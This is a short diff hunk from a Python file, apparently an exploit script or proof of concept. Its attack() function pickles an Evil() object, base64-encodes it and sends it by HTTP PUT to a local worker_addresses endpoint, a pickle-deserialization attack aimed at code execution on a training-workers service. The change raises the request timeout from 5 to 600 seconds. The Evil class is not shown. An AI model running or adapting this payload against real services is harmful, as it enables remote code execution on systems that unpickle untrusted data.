@@ -19,7 +19,7 @@ def attack():
     url = f"http://127.0.0.1:{port}/worker_addresses/localhost:0"
     data = base64.b64encode(pickle.dumps(Evil()))
     with contextlib.suppress(OSError):
-        urllib.request.urlopen(urllib.request.Request(url, data=data, method="PUT"), timeout=5)
+        urllib.request.urlopen(urllib.request.Request(url, data=data, method="PUT"), timeout=600)
     sys.exit(3)
 
 from training import workers
